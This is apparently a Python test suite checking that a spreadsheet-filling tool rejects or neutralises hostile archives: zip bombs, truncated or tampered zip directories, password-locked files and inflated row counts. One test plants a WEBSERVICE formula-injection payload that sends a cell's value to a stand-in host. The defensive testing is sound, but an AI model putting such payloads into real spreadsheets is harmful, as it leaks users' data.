"""Hostile archives: one sentence in French or a filled file, within bounds; the ones of zip itself."""

import struct
import time
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

import pytest

from answers.filled import fill
from answers.filled.envelope import replaced
from imports.sources.model import UnreadableSource
from tests.answers.looking import cells_of, changed_members, packed
from tests.imports.sheets import (
    GABARIT,
    REMARK,
    delimited,
    members_of,
    ods,
    ods_of,
    xlsx,
    xml_line,
    xml_remark,
    zipped,
)

REFERENCED = {("Feuil1", 2): {"Suivi": "C-0042"}}
SHEET = ods([GABARIT, REMARK])


def packed_as(members, *, order=None, kind=ZIP_DEFLATED, comment=b"", date=(2024, 5, 2, 10, 30, 2)):
    stream = BytesIO()
    with ZipFile(stream, "w") as archive:
        for name in order or members:
            info = ZipInfo(name, date)
            info.external_attr, info.comment = 0o644 << 16, b"de " + name.encode()
            archive.writestr(info, members[name], ZIP_STORED if name == "mimetype" else kind)
        archive.comment = comment
    return stream.getvalue()


@pytest.mark.parametrize("kind", [ZIP_DEFLATED, ZIP_STORED])
def test_order_dates_comments_and_ways_of_packing_stay(kind):
    sheet = packed_as(members_of(SHEET), kind=kind, comment="à rendre".encode())

    filled = fill("x", sheet, REFERENCED)

    assert changed_members(sheet, filled) == ["content.xml"]
    with ZipFile(BytesIO(filled)) as archive:
        assert archive.comment.decode() == "à rendre"
        assert archive.infolist()[0].compress_type == ZIP_STORED
        assert all(info.comment == b"de " + info.filename.encode() for info in archive.infolist())
        assert archive.testzip() is None


def test_an_archive_written_as_a_stream_is_filled():
    """Its sizes stand after the data, as many programs write them."""

    class Stream(BytesIO):
        def seekable(self):
            return False

    stream = Stream()
    with ZipFile(stream, "w", ZIP_DEFLATED) as archive:
        for name, content in members_of(SHEET).items():
            archive.writestr(name, content)
    sheet = stream.getvalue()

    filled = fill("x", sheet, REFERENCED)

    assert cells_of(filled)[0]["Suivi"] == "C-0042"
    assert changed_members(sheet, filled) == ["content.xml"]


def test_sizes_of_64_bits_are_understood():
    stream = BytesIO()
    with ZipFile(stream, "w", ZIP_DEFLATED) as archive:
        for name, content in members_of(SHEET).items():
            with archive.open(name, "w", force_zip64=True) as member:
                member.write(content)

    filled = fill("x", stream.getvalue(), REFERENCED)

    assert cells_of(filled)[0]["Suivi"] == "C-0042"
    assert list(packed(filled)) == list(packed(stream.getvalue()))


@pytest.mark.parametrize("length", [10, 300, 900])
def test_a_truncated_archive_is_refused(length):
    with pytest.raises(UnreadableSource, match="incomplet ou abîmé"):
        fill("x", SHEET[:-length], REFERENCED)


def test_a_directory_that_points_elsewhere_is_refused():
    at = SHEET.rindex(b"PK\x01\x02")
    moved = bytearray(SHEET)
    struct.pack_into("<L", moved, at + 42, 7)

    with pytest.raises(UnreadableSource):
        fill("x", bytes(moved), REFERENCED)


def test_what_stands_before_an_archive_is_refused_when_its_places_no_longer_hold():
    stub = b"PK\x03\x04" + bytes(60)

    with pytest.raises(UnreadableSource):
        replaced(stub + SHEET, {"content.xml": [b"<a/>"]})


def test_bombs_and_passwords_are_refused_before_anything_is_unpacked():
    bomb = zipped(members_of(SHEET) | {"Pictures/a.png": bytes(30 * 2**20)})
    manifest = "<manifest:encryption-data/>"
    locked = zipped(members_of(SHEET) | {"META-INF/manifest.xml": manifest})

    with pytest.raises(UnreadableSource, match="compressé de façon"):
        fill("x", bomb, REFERENCED)
    with pytest.raises(UnreadableSource, match="mot de passe"):
        fill("x", locked, REFERENCED)


@pytest.mark.parametrize(
    "rows",
    [
        xml_remark("Dire.", "table:number-columns-repeated='99999999999999'"),
        f"<table:table-row table:number-rows-repeated='99999999999'/>{xml_remark('Dire.')}",
        xml_remark("Dire.", "table:number-columns-spanned='99999999'"),
        xml_line("<table:covered-table-cell table:number-columns-repeated='16384'/>") * 3_000,
    ],
    ids=["cells", "lines", "spans", "covered"],
)
def test_counts_that_lie_cost_nothing(rows):
    sheet = ods_of(xml_remark("Une remarque.") + rows)
    begun = time.monotonic()

    try:
        filled = fill("x", sheet, REFERENCED)
    except UnreadableSource:
        filled = b""

    assert len(filled) < 100_000
    assert time.monotonic() - begun < 20


def test_two_sheets_of_one_name_are_not_told_apart():
    content = members_of(ods_of(xml_remark("Dire.")))["content.xml"].decode()
    table = content[content.index("<table:table ") : content.index("</table:table>") + len("</table:table>")]
    twins = zipped({"content.xml": content.replace(table, table * 2)})

    with pytest.raises(UnreadableSource, match="même nom"):
        fill("x", twins, REFERENCED)


def test_no_column_left_is_said():
    wide = ods_of(xml_remark("Dire.") + xml_remark("x", "table:number-columns-repeated='16382'"))

    with pytest.raises(UnreadableSource, match="aucune colonne libre"):
        fill("x", wide, REFERENCED)


@pytest.mark.parametrize(
    "content", [b"", b"PK\x03\x04", b"%PDF-1.7", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"bonjour"]
)
def test_what_is_no_sheet_is_refused(content):
    with pytest.raises(UnreadableSource):
        fill("x.ods", content, REFERENCED)


@pytest.mark.parametrize("write", [ods, xlsx, delimited])
def test_a_formula_in_every_mark_and_every_cell_stays_a_text(write):
    payload = '=WEBSERVICE("http://example.org/"&A1)'
    titles = [*GABARIT[:7], "Etat", "Note"]
    name = "" if write is delimited else "Feuil1"

    sheet = write([titles, [*REMARK, payload, payload]])
    filled = fill("x", sheet, {(name, 2): {"Etat": "+1", "=Titre": payload}})

    shown = cells_of(filled)[0]
    assert shown["Etat (saisi par l'auteur)"].lstrip("\u00a0") == payload
    assert b"<f>" not in b"".join(members_of(filled).values()) if write is xlsx else True
    assert b"table:formula" not in members_of(filled)["content.xml"] if write is ods else True
    assert filled.count(b'"=') == 1 if write is delimited else True  # the one the person typed, where it was
